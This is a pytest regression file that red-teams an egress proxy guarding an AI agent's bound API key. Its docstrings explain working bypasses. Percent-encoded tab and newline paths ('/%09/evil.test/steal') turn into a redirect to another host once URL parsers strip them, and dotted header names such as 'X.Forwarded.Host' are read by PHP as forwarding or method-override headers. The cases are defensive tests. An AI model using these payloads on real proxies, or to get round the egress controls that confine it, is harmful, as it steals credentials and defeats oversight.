"""Second re-check of session 33's fixes (``egress_tls.Terminated._check``: names read
'_' as '-', '%2F'/'%5C' in the path refused; ``egress_tls.send_within``: a terminated
connection's writes bounded by TCP's progress in 1 s waits).

One agent (rc33b) with a binding of ``apikey`` in ``x-api-key: {}`` to ``api.test:443``.
``api.test`` and ``evil.test`` are one wsgiref server over TLS (the re-check's
``WSGI_TLS``: a tenant chosen by HTTP_X_FORWARDED_HOST else Host, and a gateway that joins
the decoded PATH_INFO onto its base URL, as the re-check's '%2F' case). ``big.test``
(L7 rules ``GET``/``POST big.test:443/*``: terminated) answers ``GET /big`` with 8 MiB and
reads a ``POST /slowread`` body at 32 KB/s; ``php.test``/``phprules.test``: PHP.
``[egress] stall_seconds`` = STALL (8).

Broke (failing cases): a tab, LF or CR escaped in the path (``/%09/evil.test/steal``)
passes the '//' and '%2F' checks; wsgiref decodes it into PATH_INFO ``/\\t/evil.test``, and
every WHATWG-style URL parser (Python's urlsplit since 3.9.5, browsers, Node's URL)
removes tab, LF and CR anywhere in a URL before parsing: joined onto the base, it is
``//evil.test/steal``: another host, the real key swapped in (L7 rules' ``normal_path``
refuses these escapes; a binding-only destination does not). ``X.Forwarded.Host`` and
``X.HTTP.Method.Override`` pass the names check ('_' read as '-' only): PHP registers
every $_SERVER name with '.' made '_' (``php -S``, FrankenPHP), so a PHP app behind the
proxy reads HTTP_X_FORWARDED_HOST / HTTP_X_HTTP_METHOD_OVERRIDE: the key went to the other
tenant, a POST-only rule let a DELETE act. (``php.test`` is ``php -S`` behind a TLS front;
scripts/setup.sh installs php-cli.)
Held: double-encoded '%252F', '/.//' dot segments, a second Host (h11 refuses it); tiny
reads (a byte at a time) don't keep the send queue "moving"; a server reading a terminated
upload at 32 KB/s gets it whole, so does one behind ``Expect: 100-continue``; a long poll
past the stall; an 8 MiB download through dozens of timed-out, retried SSL writes arrives
byte for byte.
"""

from __future__ import annotations

import json
import os
import shutil
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from hive_fixture import HiveProcess, probe_result
from testnet import TestNet

from .egress_kit import TLS_SERVER_HEAD, TLS_SERVER_LOOP, egress_hive
from .test_red_egress32 import KEYED, TUNNEL, get
from .test_red_recheck33 import OPEN_TLS, SLOW_READ, WSGI_TLS
from .test_secrets_egress import cert_dir

AGENT = "rc33b"
KEY = "sk-live-REAL-" + "b3" * 16
STALL = 8
BIG = 8 << 20
NET = TestNet(134, prefix="hvq33b")
FRONT, BIGADDR, PHPADDR = NET.address(2), NET.address(3), NET.address(4)
HOSTS = {"api.test": FRONT, "evil.test": FRONT, "rules.test": FRONT, "big.test": BIGADDR,
         "php.test": PHPADDR, "phprules.test": PHPADDR}
PHPKEY = "sk-live-PHP-" + "p3" * 16
BINDINGS = """
[[secret_binding]]
secret = "apikey"
agents = ["rc33b"]
to = "api.test:443"
header = "x-api-key: {}"
env = "API_KEY"

# (env SPACEY_KEY: the name test_red_egress32's TUNNEL puts in place of "{SPACEY_KEY}")
[[secret_binding]]
secret = "phpkey"
agents = ["rc33b"]
to = "php.test:443"
header = "x-api-key: {}"
env = "SPACEY_KEY"
"""

# PHP's own server (``php -S``; FrankenPHP registers $_SERVER the same way) behind a TLS
# front in the namespace, as a Symfony or Laravel app with trusted proxies sees it: the
# tenant is HTTP_X_FORWARDED_HOST, else HTTP_HOST; on phprules.test a POST acts on
# HTTP_X_HTTP_METHOD_OVERRIDE (Symfony's Request::getMethod). PHP registers each header as
# HTTP_<NAME> with '-' -> '_' and then, as for every variable name, '.' (and ' ') -> '_':
# "X.Forwarded.Host" is $_SERVER["HTTP_X_FORWARDED_HOST"].
PHP_APP = r"""<?php
$host = explode(":", trim($_SERVER["HTTP_X_FORWARDED_HOST"] ?? $_SERVER["HTTP_HOST"] ?? ""))[0];
$key = $_SERVER["HTTP_X_API_KEY"] ?? "";
if ($host === "phprules.test") {
    $m = $_SERVER["REQUEST_METHOD"];
    if ($m === "POST" && isset($_SERVER["HTTP_X_HTTP_METHOD_OVERRIDE"])) $m = strtoupper($_SERVER["HTTP_X_HTTP_METHOD_OVERRIDE"]);
    echo "phprules.test acted on $m";
} elseif ($host === "evil.test") {
    echo "evil.test tenant got x-api-key=$key";
} else {
    echo "php.test tenant: key_ok=" . ($key === "%PHPKEY%" ? "yes" : "no");
}
"""
TLS_FRONT = r"""
import socket, ssl, sys, threading
ADDR, CERT = sys.argv[1], sys.argv[2]  # -> php -S at ADDR:18080
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(CERT)
def pipe(a, b):
    try:
        while d := a.recv(65536):
            b.sendall(d)
    except OSError:
        pass
    finally:
        try:
            b.shutdown(socket.SHUT_WR)
        except OSError:
            pass
def serve(c):
    try:
        t = ctx.wrap_socket(c, server_side=True)
        u = socket.create_connection((ADDR, 18080))
        th = threading.Thread(target=pipe, args=(u, t), daemon=True)
        th.start()
        pipe(t, u)
        th.join(30)
    except (OSError, ssl.SSLError):
        pass
    finally:
        c.close()
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((ADDR, 443))
s.listen(64)
while True:
    c, _ = s.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
"""

BIG_ANSWER = r"""
import time
def answer(t, head):
    if head.startswith(b"GET /big"):
        block = b"b" * 65536
        t.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % (%BIG%))
        for _ in range(%BIG% // 65536):
            t.sendall(block)
        return
    if head.startswith(b"POST /slowread"):  # reads the body at 16 KB every 0.5 s
        n = int([l.split(b":")[1] for l in head.split(b"\r\n") if l.lower().startswith(b"content-length:")][0])
        got = len(head.partition(b"\r\n\r\n")[2])
        while got < n:
            time.sleep(0.5)
            left = 16384
            while left > 0 and got < n:
                d = t.recv(min(left, n - got))
                if not d:
                    return
                got += len(d)
                left -= len(d)
        body = b"read %d" % got
        t.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s" % (len(body), body))
    if head.startswith(b"GET /pattern"):  # block i: its number, 16,384 times
        import struct
        t.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % (%BIG%))
        for i in range(%BIG% // 65536):
            t.sendall(struct.pack(">I", i) * 16384)
        return
    if head.startswith(b"GET /longpoll"):  # answers after STALL + 6 s
        time.sleep(%STALL% + 6)
        t.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nlater")
""".replace("%BIG%", str(BIG)).replace("%STALL%", str(STALL))


@pytest.fixture(scope="module")
def certs() -> Iterator[Path]:
    with cert_dir("hvq33b", "rc33b upstream CA", "rc33b servers", list(HOSTS)) as (d, _):
        yield d


@pytest.fixture(scope="module")
def net(certs: Path) -> Iterator[TestNet]:
    with NET as n:
        n.serve(FRONT, 443, [sys.executable, "-c", WSGI_TLS, FRONT, "443",
                             str(certs / "server.pem"), KEY])
        n.serve(BIGADDR, 443, [sys.executable, "-c", TLS_SERVER_HEAD + BIG_ANSWER + TLS_SERVER_LOOP, BIGADDR, "443",
                               str(certs / "server.pem")])
        if shutil.which("php"):
            (certs / "app.php").write_text(PHP_APP.replace("%PHPKEY%", PHPKEY))
            os.chmod(certs / "app.php", 0o644)
            # (one process, no PHP_CLI_SERVER_WORKERS: its workers outlived a kill of the server)
            n.serve(PHPADDR, 18080, ["php", "-S", f"{PHPADDR}:18080", str(certs / "app.php")])
            n.serve(PHPADDR, 443, [sys.executable, "-c", TLS_FRONT, PHPADDR, str(certs / "server.pem")])
        yield n


@pytest.fixture(scope="module")
def hive(net: TestNet, certs: Path) -> Iterator[HiveProcess]:
    yield from egress_hive(
        AGENT, ["api.test:443", f"{FRONT}:443", "GET big.test:443/*", "POST big.test:443/*", f"{BIGADDR}:443",
                "php.test:443", "POST phprules.test:443/v1/*", f"{PHPADDR}:443"],
        {"hosts": HOSTS, "upstream_ca": str(certs / "ca.pem"), "stall_seconds": STALL}, BINDINGS,
        {"apikey": KEY, "phpkey": PHPKEY})


# -- 1. targets: what a URL parser strips ----------------------------------------------------

STRIPPED = {
    "pct-09-tab": "/%09/evil.test/steal",
    "pct-0a-lf": "/%0a/evil.test/steal",
    "pct-0d-cr": "/%0D/evil.test/steal",
    "two-tabs": "/%09%09/evil.test/steal",
    "mixed": "/%0d%0a/evil.test/steal",
}
HELD_TARGETS = {
    "double-encoded": "/%252Fevil.test/steal",
    "dot-segment": "/.//evil.test/steal",
}


@pytest.fixture(scope="module")
def routed(hive: HiveProcess) -> dict[str, Any]:
    cases = {
        "plain": ("api.test", "api.test", get("/v1/models", "api.test", KEYED)),
        **{k: ("api.test", "api.test", get(t, "api.test", KEYED)) for k, t in {**STRIPPED, **HELD_TARGETS}.items()},
        "second-host": ("api.test", "api.test", get("/v1/models", "api.test", KEYED, "Host: evil.test")),
    }
    out = probe_result(hive.probe(AGENT, TUNNEL, timeout=120, cases={k: list(v) for k, v in cases.items()}))
    assert out["env"]["API_KEY"].startswith("hive-placeholder-"), out["env"]
    print(json.dumps({k: v for k, v in out.items() if k != "env"}, indent=1)[:4000])
    return out


@pytest.mark.attack("egress.tls-sni-host", ref="session 33 re-check ('%2F'/'%5C' refused); WHATWG URL 'remove all ASCII tab or newline'; CPython urlsplit _UNSAFE_URL_BYTES_TO_REMOVE (bpo-43882)")
def test_an_escaped_tab_or_newline_network_path_is_refused(routed: dict[str, Any]) -> None:
    """rc33b sends, inside the TLS the proxy terminates for api.test with the placeholder
    in x-api-key, ``GET /%09/evil.test/steal`` (or ``%0a``, ``%0D``, two of
    them). It starts with one '/', holds no backslash, no '%2F' or '%5C': the proxy
    swaps the real key in and forwards it. The server decodes PATH_INFO into
    ``/\\t/evil.test/steal``; a URL parser (Python's ``urljoin``/``urlsplit``, WHATWG's in
    browsers and Node) drops tab, LF and CR anywhere before parsing, so joined onto the
    base it is the network-path ``//evil.test/steal``: the gateway sends the request, key
    and all, to evil.test's tenant, which echoes the key. Safe: refused (400) as '%2F' is
    (an escaped control character in the path, like '%2F', has no honest use); the real key
    never comes back."""
    assert routed["plain"].get("status") == 200 and "key_ok=yes" in routed["plain"]["body"], routed["plain"]
    leaked = {k: routed[k] for k in STRIPPED if KEY in json.dumps(routed[k]) or "evil.test tenant" in routed[k].get("body", "")}
    assert not leaked, ("the bound key reached another host's tenant", leaked)
    for k in STRIPPED:
        assert routed[k].get("status") == 400, (k, routed[k])


@pytest.mark.attack("egress.tls-sni-host", ref="session 33 re-check ('%2F' refused): double encoding, dot segments")
def test_double_encoding_and_dot_segments_stay_on_the_bound_host(routed: dict[str, Any]) -> None:
    """Held: ``/%252Fevil.test`` decodes once to ``/%2Fevil.test`` (a path on api.test),
    ``/.//evil.test`` resolves to api.test's path ``//evil.test``, and a second ``Host:
    evil.test`` is rewritten to the checked host; none reaches evil.test's tenant nor echoes
    the key."""
    for k in [*HELD_TARGETS, "second-host"]:
        got = routed[k]
        assert KEY not in json.dumps(got) and "evil.test tenant" not in got.get("body", ""), (k, got)


# -- 2. send_within: tiny reads, and a slow server -------------------------------------------

@pytest.mark.timeout(200)
@pytest.mark.attack("budget.exhaustion", ref="session 33 re-check egress_tls.send_within (SIOCOUTQ progress)")
def test_tiny_reads_do_not_keep_a_stalled_download_alive(slow_probes: dict[str, Any]) -> None:
    """A cage that asks for 8 MiB and reads one byte every 0.1 s (SSL: one record from TCP,
    then bytes out of it) for STALL + 12 s hopes each read counts as progress. Safe: TCP
    never reopens the window for bytes that small, the send queue stays, the proxy ends the
    connection within the stall: the cage gets what the buffers held, not the body."""
    out = slow_probes["tiny"]
    print(f"a cage reading a byte every 0.1 s for {STALL + 12} s: {out}")
    assert out["got"] < BIG, out


SLOW_UPLOAD = OPEN_TLS + r"""
t = open_tls("big.test")
t.settimeout(120)
N = P["n"]
t0 = time.monotonic()
t.sendall(b"POST /slowread HTTP/1.1\r\nHost: big.test\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % N)
err = None
try:
    t.sendall(b"u" * N)
    data = b""
    while True:
        c = t.recv(65536)
        if not c:
            break
        data += c
except (OSError, ssl.SSLError) as e:
    err = type(e).__name__ + ": " + str(e)
    data = b""
result(err=err, answer=data.decode(errors="replace")[-200:], took=round(time.monotonic() - t0, 1))
"""


@pytest.mark.timeout(200)
@pytest.mark.attack("egress.relay", ref="session 33 re-check Terminated._send_upstream (send_within on the upstream)")
def test_a_server_reading_an_upload_slowly_gets_it_whole(slow_probes: dict[str, Any]) -> None:
    """Held (honest traffic): rc33b POSTs 1 MiB to big.test, which reads 16 KB every 0.5 s
    (32 KB/s, an ingest that throttles itself). Safe: the upload completes (``read
    1048576``): the upstream's window opens a segment at a time, each a change of the send
    queue."""
    out = slow_probes["upload"]
    print(f"1 MiB POST to a server reading 32 KB/s: {out}")
    assert out["err"] is None and "read 1048576" in out["answer"], out


CONTINUE_AND_POLL = OPEN_TLS + r"""
t = open_tls("big.test")
t.settimeout(120)
N = P["n"]
t0 = time.monotonic()
t.sendall(b"POST /slowread HTTP/1.1\r\nHost: big.test\r\nContent-Length: %d\r\nExpect: 100-continue\r\nConnection: close\r\n\r\n" % N)
interim = t.recv(4096)
err = None
data = b""
try:
    t.sendall(b"c" * N)
    while c := t.recv(65536):
        data += c
except (OSError, ssl.SSLError) as e:
    err = type(e).__name__ + ": " + str(e)
up = dict(interim=interim.decode(errors="replace")[:40], err=err, answer=data.decode(errors="replace")[-40:],
          took=round(time.monotonic() - t0, 1))
t = open_tls("big.test")
t.settimeout(120)
t0 = time.monotonic()
t.sendall(b"GET /longpoll HTTP/1.1\r\nHost: big.test\r\nConnection: close\r\n\r\n")
data, err = b"", None
try:
    while c := t.recv(65536):
        data += c
except (OSError, ssl.SSLError) as e:
    err = type(e).__name__ + ": " + str(e)
result(upload=up, poll=dict(err=err, answer=data.decode(errors="replace")[-40:], took=round(time.monotonic() - t0, 1)))
"""


@pytest.mark.timeout(200)
@pytest.mark.attack("egress.relay", ref="session 33 re-check send_within (honest traffic): 100-continue, a long poll past stall_seconds")
def test_a_100_continue_upload_and_a_long_poll_pass_the_stall_bound(slow_probes: dict[str, Any]) -> None:
    """Held (honest traffic): a 256 KiB POST with ``Expect: 100-continue`` to a server that
    reads 32 KB/s (the proxy's own 100, then the body), and a long poll answered STALL + 6 s
    after it was asked. Safe: both answers arrive whole (the stall bounds writes, never
    the wait for an answer)."""
    out = slow_probes["continue"]
    print(f"100-continue upload and long poll: {out}")
    assert out["upload"]["interim"].startswith("HTTP/1.1 100"), out
    assert out["upload"]["err"] is None and out["upload"]["answer"].endswith("read 262144"), out
    assert out["poll"]["err"] is None and out["poll"]["answer"].endswith("later"), out


PATTERN_READ = OPEN_TLS + r"""
import hashlib, struct
t = open_tls("big.test")
t.settimeout(60)
t.sendall(b"GET /pattern HTTP/1.1\r\nHost: big.test\r\nConnection: close\r\n\r\n")
raw, t0, err = bytearray(), time.monotonic(), None
try:
    while time.monotonic() - t0 < P["slow"]:
        c = t.recv(P["rate"] // 10)
        if not c:
            break
        raw += c
        time.sleep(0.1)
    while c := t.recv(1 << 16):
        raw += c
except (OSError, ssl.SSLError) as e:
    err = type(e).__name__ + ": " + str(e)
body = bytes(raw.partition(b"\r\n\r\n")[2])
want = b"".join(struct.pack(">I", i) * 16384 for i in range(P["big"] // 65536))
first_bad = next((i for i in range(0, min(len(body), len(want)), 4096) if body[i:i + 4096] != want[i:i + 4096]), None)
result(err=err, got=len(body), same=hashlib.sha256(body).hexdigest() == hashlib.sha256(want).hexdigest(), first_bad=first_bad,
       took=round(time.monotonic() - t0, 1))
"""


@pytest.mark.timeout(200)
@pytest.mark.attack("egress.relay", ref="session 33 re-check send_within (a timed-out SSL_write made again: OpenSSL's partial-write state)")
def test_a_download_through_many_timed_out_writes_arrives_exactly(slow_probes: dict[str, Any]) -> None:
    """A reader at 30 KB/s for 25 s makes the proxy's 256 KiB SSL writes time out and be
    made again dozens of times (each a partly written record in OpenSSL), then reads fast.
    Safe (held): the 8 MiB body arrives exactly: no record written twice, none skipped, no
    TLS error."""
    out = slow_probes["pattern"]
    print(f"pattern download through timed-out writes: {out}")
    assert out["err"] is None and out["got"] == BIG and out["same"], out



# -- 3. header names as PHP registers them ---------------------------------------------------

def post(target: str, host: str, *headers: str) -> str:
    return "".join([f"POST {target} HTTP/1.1\r\nHost: {host}\r\n", *(h + "\r\n" for h in headers),
                    "Content-Length: 0\r\nConnection: close\r\n\r\n"])


PHPKEYED = "x-api-key: {SPACEY_KEY}"
DOTTED = {
    "dotted-x-forwarded-host": ("php.test", "php.test", get("/v1/models", "php.test", PHPKEYED, "X.Forwarded.Host: evil.test")),
    "dot-and-dash": ("php.test", "php.test", get("/v1/models", "php.test", PHPKEYED, "X-Forwarded.Host: evil.test")),
}
PHP_HELD = {
    "php-plain": ("php.test", "php.test", get("/v1/models", "php.test", PHPKEYED)),
    "php-dash": ("php.test", "php.test", get("/v1/models", "php.test", PHPKEYED, "X-Forwarded-Host: evil.test")),
    "phprules-plain": ("phprules.test", "phprules.test", post("/v1/items", "phprules.test")),
    "phprules-dash": ("phprules.test", "phprules.test", post("/v1/items", "phprules.test", "X-HTTP-Method-Override: DELETE")),
}
DOTTED_OVERRIDE = {
    "phprules-dotted": ("phprules.test", "phprules.test", post("/v1/items", "phprules.test", "X.HTTP.Method.Override: DELETE")),
}


@pytest.fixture(scope="module")
def php_routed(hive: HiveProcess) -> dict[str, Any]:
    # (scripts/setup.sh installs php-cli: these cases run wherever the suite does)
    assert shutil.which("php"), "php (php-cli) is not installed: bash scripts/setup.sh installs it"
    cases = {**DOTTED, **PHP_HELD, **DOTTED_OVERRIDE}
    out = probe_result(hive.probe(AGENT, TUNNEL, timeout=120, cases={k: list(v) for k, v in cases.items()}))
    print(json.dumps({k: v for k, v in out.items() if k != "env"}, indent=1)[:4000])
    return out


@pytest.mark.attack("egress.tls-sni-host", ref="session 33 re-check ('_' read as '-'); PHP php_register_variable_ex ('.' and ' ' -> '_'), php -S and FrankenPHP; Symfony/Laravel trusted X-Forwarded-Host")
def test_a_dotted_spelling_of_a_routing_header_is_refused(php_routed: dict[str, Any]) -> None:
    """The fix reads header names '_' as '-', as CGI does, but PHP goes further: every
    $_SERVER name it registers has '.' (and ' ') made '_', so ``X.Forwarded.Host:
    evil.test`` (a valid token h11 passes) is ``$_SERVER["HTTP_X_FORWARDED_HOST"]`` to an
    app on PHP's own server or FrankenPHP (Caddy). rc33b sends it inside the TLS the proxy
    terminates for php.test with the placeholder in x-api-key: the real key is swapped in,
    the header forwarded, and a Symfony/Laravel app trusting its proxy picks evil.test's
    tenant, which echoes the key. Safe: refused (400) like the dash spelling; the key never
    comes back."""
    assert php_routed["php-plain"].get("status") == 200 and "key_ok=yes" in php_routed["php-plain"]["body"], php_routed["php-plain"]
    assert php_routed["php-dash"].get("status") == 400, php_routed["php-dash"]
    leaked = {k: php_routed[k] for k in DOTTED if PHPKEY in json.dumps(php_routed[k]) or "evil.test tenant" in php_routed[k].get("body", "")}
    assert not leaked, ("the bound key reached another tenant", leaked)
    for k in DOTTED:
        assert php_routed[k].get("status") == 400, (k, php_routed[k])


@pytest.mark.attack("egress.l7-bypass", ref="METHOD_OVERRIDES (session 32, '_' in the re-check); PHP's '.' -> '_'; Symfony Request::getMethod")
def test_a_dotted_method_override_does_not_pass_a_post_only_rule(php_routed: dict[str, Any]) -> None:
    """rc33b may only ``POST phprules.test:443/v1/*``. ``X.HTTP.Method.Override: DELETE`` on
    a POST passes the rule (the names are checked with '_' as '-' only) and PHP registers it
    as HTTP_X_HTTP_METHOD_OVERRIDE: the app acts on DELETE. Safe: refused (400) like the dash
    spelling."""
    assert php_routed["phprules-plain"].get("status") == 200 and "acted on POST" in php_routed["phprules-plain"]["body"], php_routed
    assert php_routed["phprules-dash"].get("status") == 400, php_routed["phprules-dash"]
    got = php_routed["phprules-dotted"]
    assert "acted on DELETE" not in got.get("body", ""), got
    assert got.get("status") == 400, got


@pytest.fixture(scope="module")
def slow_probes(hive: HiveProcess) -> dict[str, Any]:
    """The four slow cases below, run at once (one wait for the suite, not four): each
    its own connection, none counting anything host-wide."""
    jobs = {
        "tiny": (SLOW_READ, dict(timeout=180, rate=10, slow=STALL + 12)),
        "upload": (SLOW_UPLOAD, dict(timeout=150, n=1 << 20)),
        "continue": (CONTINUE_AND_POLL, dict(timeout=150, n=256 << 10)),
        "pattern": (PATTERN_READ, dict(timeout=150, rate=30_000, slow=25, big=BIG)),
    }
    out: dict[str, Any] = {}

    def run(key: str, script: str, kw: dict[str, Any]) -> None:
        try:
            out[key] = probe_result(hive.probe(AGENT, script, **kw))
        except Exception as e:  # (the case that reads it fails, naming this)
            out[key] = {"probe failed": repr(e)}

    ths = [threading.Thread(target=run, args=(k, script, kw)) for k, (script, kw) in jobs.items()]
    for th in ths:
        th.start()
    for th in ths:
        th.join()
    return out
